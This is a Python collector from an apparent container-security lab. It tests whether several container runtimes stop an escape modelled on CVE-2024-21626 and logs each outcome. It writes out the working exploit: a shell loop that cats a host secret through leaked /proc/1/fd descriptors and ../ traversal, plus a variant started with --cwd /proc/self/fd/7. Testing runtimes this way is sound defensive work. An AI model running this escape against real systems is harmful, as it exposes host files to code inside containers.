"""Edition 2026, task 4, beyond the sheet: an escape through a flaw of the runtime (CVE-2024-21626)."""

from collectors.lab12.sheet_2026 import IMAGE, NEEDS
from collectors.lab12.smoke import smoke
from labreport.capture import Run, collector
from labreport.containers.ctr import RUNTIMES
from labreport.containers.escapes import Escape, Trial, attempt, new_trial

TO_ROOT = "../../../../../../../.."


def by_descriptor(trial: Trial, options: tuple[str, ...]) -> Escape:
    """Return an escape that goes from each directory open in the container's process to the host's root."""
    secret = trial.folder / "secret"
    secret.write_text(f"{trial.marker}\n")
    return Escape(
        trial,
        target="a file of the host, by way of a directory of the host that was left open",
        proof="the container prints the marker, which it was not told",
        script=f"ls -l /proc/1/fd; for one in . /proc/1/fd/*; do cat $one/{TO_ROOT}{secret}; done",
        options=options,
        not_started=r"not a directory|breakout detected|ENOENT" if options else "",
    )


@collector(edition=2026, task=4, writes=["escapes/descriptor.txt"], needs=NEEDS, after=[smoke], role="escape")
def descriptor(run: Run) -> None:
    """A directory of the host that is left open in the container's process, as in CVE-2024-21626."""
    ways: dict[str, tuple[str, ...]] = {
        "through every descriptor": (),
        "started in descriptor 7": ("--cwd", "/proc/self/fd/7"),
    }
    with run.file("escapes/descriptor.txt") as out:
        for title, options in ways.items():
            for name, runtime in RUNTIMES.items():
                out.line(f"=== {name}, {title} ===")
                attempt(run, out, by_descriptor(new_trial(run, IMAGE), options), runtime)
